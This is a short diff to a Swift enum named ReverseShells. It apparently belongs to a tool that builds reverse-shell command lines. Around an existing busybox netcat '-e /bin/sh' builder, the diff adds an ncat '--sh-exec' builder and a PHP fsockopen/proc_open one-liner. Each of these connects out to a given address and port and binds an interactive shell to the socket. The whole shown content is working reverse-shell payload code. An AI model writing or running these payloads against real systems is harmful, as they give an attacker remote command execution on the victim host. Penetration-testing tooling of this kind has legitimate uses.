@@ -83,4 +83,15 @@ public enum ReverseShells {
     public static func busyboxNetcat(_ address: String, _ port: UInt16) -> [String] {
         ["busybox", "nc", address, String(port), "-e", "/bin/sh"]
     }
+
+    /// nmap's ncat hands its connection to `sh -c` as stdio (`--sh-exec`).
+    public static func ncat(_ address: String, _ port: UInt16) -> [String] {
+        ["ncat", address, String(port), "--sh-exec", "sh -i"]
+    }
+
+    /// The php one-liner with proc_open: php's child makes the socket its
+    /// fds 0-2 and execs `sh -c 'sh -i'`.
+    public static func php(_ address: String, _ port: UInt16) -> [String] {
+        ["php", "-r", "$s=fsockopen(\"\(address)\",\(port));proc_open(\"sh -i\",[0=>$s,1=>$s,2=>$s],$p);"]
+    }
 }
